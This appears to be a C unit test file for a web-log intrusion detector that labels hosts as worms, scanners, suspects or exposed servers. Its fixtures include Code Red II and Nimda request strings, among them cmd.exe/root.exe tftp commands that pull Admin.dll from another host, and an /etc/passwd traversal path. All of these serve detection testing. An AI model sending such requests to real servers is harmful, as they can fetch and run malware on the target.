// SPDX-License-Identifier: Apache-2.0
// Who is accused by a log, who is not, and that order and repetition change nothing.
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <stdlib.h>

#include "unit/detect/weblog.h"

#define CODE_RED_2 "/default.ida?" X20 X20 CODE_RED_TAIL
#define TFTP "/scripts/root.exe?/c+tftp%20-i%2010.1.2.3%20GET%20Admin.dll%20Admin.dll"

enum { NOON_S = 997315917, KEY = 7, CLIENTS = 1 << 16 };

/* Attacks with their set and their findings, as the program has them. */
struct court {
	struct signatures *signatures;
	struct inventory *inventory;
	struct attacks *attacks;
	struct evidence *evidence;
	struct findings findings;
};

static struct court court_of(const char *inventory)
{
	struct err e = {};
	struct court c = { .signatures = builtin() };
	if (inventory)
		c.inventory = inventory_parse(str_of(inventory), "inventory", &e);
	if (inventory && !c.inventory)
		fail_msg("%s", e.text);
	c.attacks = attacks_new(c.signatures, c.inventory, CLIENTS, KEY);
	c.evidence = evidence_new(1 << 16, KEY);
	assert_true(c.attacks && c.evidence);
	return c;
}

static void judge_all(struct court *c)
{
	findings_free(&c->findings);
	assert_true(judge(c->evidence, c->inventory, NOON_S * UINT64_C(1000), false, &c->findings));
	assert_true(attacks_into(c->attacks, NOON_S * UINT64_C(1000), &c->findings));
}

static void court_free(struct court *c)
{
	findings_free(&c->findings);
	attacks_free(c->attacks);
	evidence_free(c->evidence);
	inventory_free(c->inventory);
	signatures_free(c->signatures);
}

static void see(struct court *c, struct request q)
{
	attacks_observe(c->attacks, &q, 1);
}

static const struct finding *finding_on(const struct court *c, const char *host)
{
	struct addr a = host_of(host);
	for (size_t i = 0; i < c->findings.n; i++)
		if (addr_eq(&c->findings.finding[i].host, &a))
			return &c->findings.finding[i];
	return NULL;
}

static void expect(const struct court *c, const char *host, enum verdict v, const char *id)
{
	const struct finding *f = finding_on(c, host);
	if (!f)
		fail_msg("nothing about %s", host);
	assert_string_equal(verdict_name(f->verdict), verdict_name(v));
	assert_true(f->n_attacks > 0);
	assert_string_equal(f->attack[0]->signature->id, id);
}

static void one_line_tells_of_two_hosts(void **state)
{
	struct court c = court_of(NULL);
	(void)state;
	see(&c, asked("172.20.148.189", "172.20.225.130", CODE_RED_2, 200, NOON_S, 1));
	judge_all(&c);
	assert_int_equal(c.findings.n, 2);
	expect(&c, "172.20.148.189", VERDICT_WORM, "code-red-2");
	expect(&c, "172.20.225.130", VERDICT_EXPOSED, "code-red-2");
	const struct attack *a = finding_on(&c, "172.20.148.189")->attack[0];
	assert_int_equal(a->side, SIDE_ATTACKER);
	assert_string_equal(a->signature->variant, "II (X)");
	assert_int_equal(a->n, 1);
	assert_int_equal(a->n_requests, 1);
	assert_int_equal(a->n_rows, 1);
	assert_int_equal(a->row[0].outcome, WEB_TAKEN);
	assert_int_equal(a->row[0].offset, 100);
	assert_int_equal(a->row[0].n_bytes, strlen(CODE_RED_2));
	struct addr server = host_of("172.20.225.130");
	assert_true(a->n_peers == 1 && addr_eq(&a->peer[0], &server));
	assert_int_equal(finding_on(&c, "172.20.148.189")->port, 80);
	court_free(&c);
}

static void only_a_server_that_took_it_is_exposed(void **state)
{
	static const uint16_t status[] = { 400, 403, 404, 301, 500, 0 };
	static const enum web_outcome want[] = { WEB_FAILED, WEB_FAILED, WEB_FAILED, WEB_FAILED,
		WEB_UNKNOWN, WEB_UNKNOWN };
	(void)state;
	for (size_t i = 0; i < countof(status); i++) {
		struct court c = court_of(NULL);
		see(&c, asked("10.0.0.1", "10.0.0.2", CODE_RED_2, status[i], NOON_S, 1));
		judge_all(&c);
		assert_int_equal(c.findings.n, 1);
		assert_int_equal(c.findings.finding[0].attack[0]->row[0].outcome, want[i]);
		court_free(&c);
	}
	struct court c = court_of(NULL);
	struct request q = asked("10.0.0.1", "10.0.0.2", CODE_RED_2, 200, NOON_S, 1);
	q.has |= REQUEST_ERROR;
	see(&c, q);
	judge_all(&c);
	assert_int_equal(c.findings.n, 1);
	assert_int_equal(c.findings.finding[0].attack[0]->row[0].outcome, WEB_REJECTED);
	court_free(&c);
}

static void without_a_client_nobody_is_accused(void **state)
{
	struct court c = court_of(NULL);
	struct trouble *t = calloc(1, sizeof *t);
	(void)state;
	see(&c, asked(NULL, NULL, CODE_RED_2, 200, 0, 4));
	judge_all(&c);
	assert_int_equal(c.findings.n, 0);
	attacks_note(c.attacks, t);
	assert_int_equal(t->n_notes, 1);
	assert_int_equal(t->note[0].at, place_at(0, 4));
	assert_string_equal(t->note[0].text, "Code Red, variant II (X) in 1 request, but the log "
					     "names no client: nobody is accused");
	free(t);
	court_free(&c);
}

/* Send the first n of Nimda's requests, so many seconds apart. */
static enum verdict nimda_verdict(size_t n, unsigned apart_s, bool is_backwards)
{
	struct court c = court_of(NULL);
	for (size_t i = 0; i < n; i++) {
		size_t k = is_backwards ? n - 1 - i : i;
		see(&c, asked("10.0.0.1", NULL, nimda[k], 404, NOON_S + apart_s * k, k + 1));
	}
	judge_all(&c);
	assert_int_equal(c.findings.n, 1);
	assert_string_equal(c.findings.finding[0].attack[0]->signature->id, "nimda");
	assert_int_equal(c.findings.finding[0].attack[0]->n, n);
	enum verdict v = c.findings.finding[0].verdict;
	court_free(&c);
	return v;
}

static void four_different_requests_in_a_minute_are_nimda(void **state)
{
	(void)state;
	assert_int_equal(nimda_verdict(3, 1, false), VERDICT_SUSPECT);
	assert_int_equal(nimda_verdict(4, 1, false), VERDICT_WORM);
	assert_int_equal(nimda_verdict(4, 20, false), VERDICT_WORM);
	assert_int_equal(nimda_verdict(4, 20, true), VERDICT_WORM);
	assert_int_equal(nimda_verdict(4, 21, false), VERDICT_SUSPECT);
	assert_int_equal(nimda_verdict(16, 21, false), VERDICT_SUSPECT);
	assert_int_equal(nimda_verdict(16, 20, true), VERDICT_WORM);
}

static void one_request_repeated_is_no_nimda(void **state)
{
	struct court c = court_of(NULL);
	(void)state;
	for (unsigned i = 0; i < 1000; i++)
		see(&c, asked("10.0.0.1", NULL, nimda[i % 3], 404, NOON_S + i / 100, i + 1));
	for (unsigned i = 0; i < 4; i++) // four, but each by another
		see(&c, asked((const char *[]){ "10.0.1.1", "10.0.1.2", "10.0.1.3", "10.0.1.4" }[i],
				NULL, nimda[i], 404, NOON_S, 2000 + i));
	judge_all(&c);
	assert_int_equal(c.findings.n, 5);
	for (size_t i = 0; i < c.findings.n; i++)
		assert_int_equal(c.findings.finding[i].verdict, VERDICT_SUSPECT);
	const struct attack *a = finding_on(&c, "10.0.0.1")->attack[0];
	assert_int_equal(a->n, 1000);
	assert_int_equal(a->n_rows, ATTACK_ROWS_MAX);
	court_free(&c);
}

static void too_few_names_of_phpmyadmin_are_nothing(void **state)
{
	static const char *const name[] = { "/phpmyadmin/", "/pma/", "/myadmin/", "/dbadmin/" };
	(void)state;
	for (size_t n = 1; n <= countof(name); n++) {
		struct court c = court_of(NULL);
		for (size_t i = 0; i < n; i++)
			see(&c, asked("10.0.0.1", NULL, name[i], 404, NOON_S + i, i + 1));
		judge_all(&c);
		assert_int_equal(c.findings.n, n >= 3);
		if (n >= 3)
			expect(&c, "10.0.0.1", VERDICT_SCANNER, "phpmyadmin-scan");
		court_free(&c);
	}
}

static void the_tftp_step_accuses_the_address_in_it(void **state)
{
	struct court c = court_of(NULL);
	(void)state;
	see(&c, asked("10.1.2.3", "10.9.9.9", TFTP, 502, NOON_S, 1));
	judge_all(&c);
	assert_int_equal(c.findings.n, 2);
	expect(&c, "10.1.2.3", VERDICT_WORM, "nimda-tftp");
	expect(&c, "10.9.9.9", VERDICT_EXPOSED, "nimda-tftp");
	assert_int_equal(finding_on(&c, "10.1.2.3")->attack[0]->n, 1);
	assert_int_equal(finding_on(&c, "10.1.2.3")->attack[0]->signature->stage, STAGE_INFECTING);
	court_free(&c);

	c = court_of(NULL); // sent by another: he is infected; whom he names is a lead
	see(&c, asked("10.4.4.4", NULL, TFTP, 404, NOON_S, 1));
	judge_all(&c);
	assert_int_equal(c.findings.n, 2);
	expect(&c, "10.4.4.4", VERDICT_WORM, "nimda-tftp");
	expect(&c, "10.1.2.3", VERDICT_SUSPECT, "nimda-tftp");
	court_free(&c);

	c = court_of(NULL); // sent by nobody that is known
	see(&c, asked(NULL, NULL, TFTP, 404, NOON_S, 1));
	judge_all(&c);
	assert_int_equal(c.findings.n, 1);
	expect(&c, "10.1.2.3", VERDICT_SUSPECT, "nimda-tftp");
	court_free(&c);
}

static void who_fetches_the_worms_mail_is_a_victim(void **state)
{
	struct court c = court_of(NULL);
	(void)state;
	see(&c, asked("10.0.0.1", "10.0.0.2", "/readme.eml", 200, NOON_S, 1));
	see(&c, asked("10.0.0.1", "10.0.0.3", "/readme.eml", 404, NOON_S, 2));
	judge_all(&c);
	assert_int_equal(c.findings.n, 1);
	expect(&c, "10.0.0.2", VERDICT_EXPOSED, "nimda-readme-eml");
	court_free(&c);
}

static void a_forged_header_accuses_nobody(void **state)
{
	static const struct {
		const char *inventory, *client, *forwarded, *accused;
	} rows[] = {
		{ NULL, "10.0.0.1", "8.8.8.8", "10.0.0.1" },
		{ "trusted-proxies: [10.0.0.9]", "10.0.0.1", "8.8.8.8", "10.0.0.1" },
		{ "trusted-proxies: [10.0.0.9]", "10.0.0.9", "10.0.0.1", "10.0.0.1" },
		{ "trusted-proxies: [10.0.0.9]", "10.0.0.9", "8.8.8.8, 10.0.0.1", "10.0.0.1" },
		{ "trusted-proxies: [10.0.0.9, 10.0.1.0/24]", "10.0.0.9",
			"8.8.8.8, 10.0.0.1, 10.0.1.7", "10.0.0.1" },
		{ "trusted-proxies: [10.0.0.9]", "10.0.0.9", "8.8.8.8,+10.0.0.1:4711", "10.0.0.1" },
		{ "trusted-proxies: [10.0.0.9]", "10.0.0.9", "[2001:db8::1]:80", "2001:db8::1" },
		{ "trusted-proxies: [10.0.0.9]", "10.0.0.9", "8.8.8.8, unknown", NULL },
		{ "trusted-proxies: [10.0.0.9]", "10.0.0.9", "8.8.8.8, 10.0.0.9, ", NULL },
		{ "trusted-proxies: [10.0.0.9]", "10.0.0.9", "10.0.0.9", NULL },
		{ "trusted-proxies: [10.0.0.9]", "10.0.0.9", "", NULL },
	};
	(void)state;
	for (size_t i = 0; i < countof(rows); i++) {
		struct court c = court_of(rows[i].inventory);
		struct request q = asked(rows[i].client, NULL, CODE_RED_2, 404, NOON_S, 1);
		q.forwarded = str_of(rows[i].forwarded);
		see(&c, q);
		judge_all(&c);
		assert_int_equal(c.findings.n, rows[i].accused != NULL);
		if (rows[i].accused) {
			expect(&c, rows[i].accused, VERDICT_WORM, "code-red-2");
			const struct attack_row *row = &c.findings.finding[0].attack[0]->row[0];
			struct addr client = host_of(rows[i].client);
			assert_true(addr_eq(&row->client, &client)); // both are kept
			assert_int_equal((row->has & ROW_FORWARDED) != 0,
				strcmp(rows[i].client, rows[i].accused) != 0);
		}
		court_free(&c);
	}
}

static void declared_scanners_and_outsiders_keep_their_class(void **state)
{
	static const char inventory[] =
		"networks: [10.0.0.0/8]\ndeclared-scanners:\n"
		"- {address: 10.0.0.7, reason: weekly, expires: 2026-12-31}\n";
	struct court c = court_of(inventory);
	(void)state;
	see(&c, asked("10.0.0.7", "10.0.0.2", CODE_RED_2, 200, NOON_S, 1));
	see(&c, asked("10.0.0.8", NULL, "/../../etc/passwd", 404, NOON_S, 2));
	see(&c, asked("192.0.2.1", NULL, "/../../etc/passwd", 404, NOON_S, 3));
	see(&c, asked("192.0.2.2", NULL, CODE_RED_2, 404, NOON_S, 4));
	judge_all(&c);
	assert_int_equal(c.findings.n, 5);
	expect(&c, "10.0.0.7", VERDICT_DECLARED, "code-red-2");
	assert_non_null(strstr(finding_on(&c, "10.0.0.7")->why, "declared until 2026-12-31"));
	expect(&c, "10.0.0.2", VERDICT_EXPOSED, "code-red-2"); // its own scan shows it
	expect(&c, "10.0.0.8", VERDICT_SUSPECT, "traversal");
	expect(&c, "192.0.2.1", VERDICT_SCANNER, "traversal");
	expect(&c, "192.0.2.2", VERDICT_WORM, "code-red-2");
	court_free(&c);
}

/* A scan of port 80 that fails, enough for a case of its own. */
static void scan(struct court *c, const char *source, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		struct flow f = { .src = host_of(source),
			.dst = addr_v4(0x0a140000 + (uint32_t)i * 977),
			.src_port = (uint16_t)(40000 + i),
			.dst_port = 80,
			.proto = PROTO_TCP,
			.packets = 1,
			.bytes = 48,
			.tcp_flags = 2,
			.has = FLOW_HAS_PROTO | FLOW_HAS_PORTS | FLOW_HAS_FLAGS | FLOW_HAS_PACKETS |
			       FLOW_HAS_BYTES | FLOW_HAS_TIME,
			.first_ms = NOON_S * UINT64_C(1000) + i * 100,
			.last_ms = NOON_S * UINT64_C(1000) + i * 100,
			.at = place_at(1, i + 1) };
		evidence_observe(c->evidence, &f, 1);
	}
}

static void a_host_in_flows_and_logs_is_one_finding(void **state)
{
	struct court c = court_of(NULL);
	(void)state;
	scan(&c, "10.0.0.1", 6);
	judge_all(&c);
	assert_int_equal(c.findings.n, 1);
	double alone = c.findings.finding[0].confidence;
	assert_int_equal(c.findings.finding[0].verdict, VERDICT_SUSPECT);
	see(&c, asked("10.0.0.1", "10.0.0.2", "/scripts/root.exe?/c+dir", 404, NOON_S, 1));
	judge_all(&c);
	assert_int_equal(c.findings.n, 1);
	expect(&c, "10.0.0.1", VERDICT_SUSPECT, "nimda");
	assert_true(c.findings.finding[0].confidence > alone);
	assert_true(c.findings.finding[0].n_exhibits == 6);
	assert_non_null(strstr(c.findings.finding[0].why, "did not answer"));
	assert_non_null(strstr(c.findings.finding[0].why, "; in web logs: Nimda"));
	see(&c, asked("10.0.0.1", "10.0.0.2", CODE_RED_2, 404, NOON_S, 2));
	judge_all(&c);
	assert_int_equal(c.findings.n, 1);
	expect(&c, "10.0.0.1", VERDICT_WORM, "code-red-2");
	assert_true(c.findings.finding[0].confidence > .99);
	court_free(&c);
}

static void many_hosts_in_flows_and_logs_meet(void **state)
{
	enum { HOSTS = 60, EVERY_FLOWS = 2, EVERY_LOGS = 3 };
	struct court c = court_of(NULL);
	char host[ADDR_TEXT_BYTES];
	size_t n_both = 0;
	(void)state;
	for (unsigned i = HOSTS; i-- > 0;) {
		struct addr a = addr_v4(0x0a000001 + i);
		addr_format(&a, host);
		if (i % EVERY_FLOWS == 0)
			scan(&c, host, 6);
		if (i % EVERY_LOGS == 0)
			see(&c, asked(host, "11.0.0.2", CODE_RED_2, 404, NOON_S, i + 1));
	}
	judge_all(&c);
	assert_int_equal(c.findings.n, HOSTS / 2 + HOSTS / 3 - HOSTS / 6);
	for (size_t i = 0; i < c.findings.n; i++) {
		const struct finding *f = &c.findings.finding[i];
		unsigned k = addr_low32(&f->host) - 0x0a000001;
		bool is_of_flows = strstr(f->why, "did not answer");
		assert_true(is_of_flows == (k % EVERY_FLOWS == 0));
		assert_true((f->n_attacks == 1) == (k % EVERY_LOGS == 0));
		n_both += is_of_flows && f->n_attacks == 1;
	}
	assert_int_equal(n_both, HOSTS / 6);
	court_free(&c);
}

/* What the findings say, as text; order and repetition must not show in it. */
static void tell(const struct court *c, char *room, size_t size)
{
	size_t n = 0;
	char host[ADDR_TEXT_BYTES];
	for (size_t i = 0; i < c->findings.n; i++) {
		const struct finding *f = &c->findings.finding[i];
		n += (size_t)snprintf(room + n, size - n, "%s %s %.6f %s\n",
			addr_format(&f->host, host), verdict_name(f->verdict), f->confidence,
			f->why);
		for (size_t k = 0; k < f->n_attacks; k++)
			for (uint32_t r = 0; r < f->attack[k]->n_rows; r++)
				n += (size_t)snprintf(room + n, size - n, " %llx",
					(unsigned long long)f->attack[k]->row[r].at);
	}
}

static void order_parts_and_repetition_change_nothing(void **state)
{
	enum { N = 600, TEXT = 1 << 16 };
	static const char *const target[] = { CODE_RED_2, "/default.ida", TFTP, "/x.ida" };
	struct request *q = calloc(N, sizeof *q);
	char *want = calloc(2, TEXT), *got = want + TEXT;
	uint32_t seed = 5;
	(void)state;
	for (unsigned i = 0; i < N; i++) {
		char host[ADDR_TEXT_BYTES], server[ADDR_TEXT_BYTES];
		struct addr a = addr_v4(0x0a000000 + i % 11), b = addr_v4(0x0b000000 + i % 17);
		q[i] = asked(addr_format(&a, host), addr_format(&b, server),
			i % 3 ? nimda[i % 16] : target[i % 4], i % 5 ? 404 : 200, NOON_S + i * 7,
			i + 1);
	}
	struct court one = court_of(NULL);
	attacks_observe(one.attacks, q, N);
	judge_all(&one);
	tell(&one, want, TEXT);
	for (unsigned round = 0; round < 8; round++) {
		struct court c = court_of(NULL);
		struct attacks *other = attacks_new(c.signatures, NULL, CLIENTS, KEY);
		for (unsigned i = N; i > 1; i--) { // Fisher and Yates
			seed = seed * 1664525 + 1013904223;
			unsigned k = (seed >> 8) % i;
			struct request swap = q[i - 1];
			q[i - 1] = q[k];
			q[k] = swap;
		}
		attacks_observe(c.attacks, q, N / 2);
		attacks_observe(other, q + N / 2, N - N / 2);
		attacks_merge(c.attacks, other);
		judge_all(&c);
		tell(&c, got, TEXT);
		assert_string_equal(got, want);
		attacks_free(other);
		court_free(&c);
	}
	free(want);
	free(q);
	court_free(&one);
}

static void rows_that_both_parts_saw_count_once(void **state)
{
	struct court c = court_of(NULL);
	struct attacks *other = attacks_new(c.signatures, NULL, CLIENTS, KEY);
	(void)state;
	for (unsigned i = 0; i < 20; i++) {
		struct request q =
			asked("10.0.0.1", "10.0.0.2", CODE_RED_2, 200, NOON_S + i, i + 1);
		if (i < 15)
			attacks_observe(c.attacks, &q, 1);
		if (i >= 5)
			attacks_observe(other, &q, 1);
	}
	attacks_merge(c.attacks, other);
	judge_all(&c);
	for (size_t i = 0; i < c.findings.n; i++) {
		assert_int_equal(c.findings.finding[i].attack[0]->n, 20);
		assert_int_equal(c.findings.finding[i].attack[0]->n_outcome[WEB_TAKEN], 20);
	}
	attacks_free(other);
	court_free(&c);
}

static void many_attackers_are_all_kept(void **state)
{
	enum { N = 100300 };
	struct court c = court_of(NULL);
	(void)state;
	for (uint32_t i = 0; i < N; i++) {
		struct request q = asked("10.0.0.1", NULL, "/x.ida", 404, NOON_S, i + 1);
		q.client = addr_v4(0x0a000000 + i / 2);
		attacks_observe(c.attacks, &q, 1);
	}
	judge_all(&c);
	assert_int_equal(c.findings.n, N / 2);
	for (size_t i = 0; i < c.findings.n; i++)
		assert_int_equal(c.findings.finding[i].attack[0]->n, 2);
	court_free(&c);
}

/* One attacker names a quarter of a million others: that must not hide who comes after. */
static void names_crowd_nobody_out(void **state)
{
	struct court c = court_of(NULL);
	size_t n_senders = 0;
	(void)state;
	for (uint32_t i = 0; i < ATTACKS_MAX + 10; i++) {
		char target[120], named[ADDR_TEXT_BYTES];
		struct addr a = addr_v4(0x0b000000 + i);
		(void)snprintf(target, sizeof target,
			"/c/winnt/system32/cmd.exe?/c+tftp+-i+%s+GET+Admin.dll",
			addr_format(&a, named));
		see(&c, asked("10.0.0.1", "10.0.0.2", target, 404, NOON_S, i + 1));
	}
	see(&c, asked("10.0.0.3", "10.0.0.2", CODE_RED_2, 404, NOON_S, ATTACKS_MAX + 11));
	judge_all(&c);
	assert_true(c.findings.n < ATTACKS_MAX / 2);
	for (size_t i = 0; i < c.findings.n; i++)
		n_senders += addr_low32(&c.findings.finding[i].host) >> 24 == 10;
	assert_int_equal(n_senders, 2);
	court_free(&c);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(one_line_tells_of_two_hosts),
		cmocka_unit_test(only_a_server_that_took_it_is_exposed),
		cmocka_unit_test(without_a_client_nobody_is_accused),
		cmocka_unit_test(four_different_requests_in_a_minute_are_nimda),
		cmocka_unit_test(one_request_repeated_is_no_nimda),
		cmocka_unit_test(too_few_names_of_phpmyadmin_are_nothing),
		cmocka_unit_test(the_tftp_step_accuses_the_address_in_it),
		cmocka_unit_test(who_fetches_the_worms_mail_is_a_victim),
		cmocka_unit_test(a_forged_header_accuses_nobody),
		cmocka_unit_test(declared_scanners_and_outsiders_keep_their_class),
		cmocka_unit_test(a_host_in_flows_and_logs_is_one_finding),
		cmocka_unit_test(many_hosts_in_flows_and_logs_meet),
		cmocka_unit_test(order_parts_and_repetition_change_nothing),
		cmocka_unit_test(rows_that_both_parts_saw_count_once),
		cmocka_unit_test(many_attackers_are_all_kept),
		cmocka_unit_test(names_crowd_nobody_out),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
